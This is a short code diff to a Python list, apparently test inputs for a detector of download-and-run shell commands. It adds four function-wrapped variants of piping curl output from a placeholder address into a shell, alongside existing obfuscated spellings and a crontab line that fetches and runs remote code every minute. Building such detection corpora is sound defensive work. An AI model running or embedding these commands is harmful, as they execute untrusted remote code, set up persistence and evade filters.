@@ -56,6 +56,10 @@ SPELLINGS = [
     f"{CU}$IFS$9{ADDRESS}$IFS$9|$IFS$9{SH}",
     f'(crontab -l; echo "* * * * * c${{u}}url {ADDRESS} | b${{u}}ash") | crontab -',
     f"x=CURL; ${{x,,}} {ADDRESS} | {SH}",
+    f"get() {{ {CU} -s {ADDRESS}; }}\nget | {SH}",
+    f'get() {{\n  {CU} -fsSL "$1"\n}}\n{SH} <(get {ADDRESS})',
+    f"function dl {{\n  {CU} -s {ADDRESS}\n}}\ndl | {SH} -s",
+    f'get() {{ local a=1; {CU} -s "$1"; }}; get {ADDRESS} | {SH}',
 ]
 
 
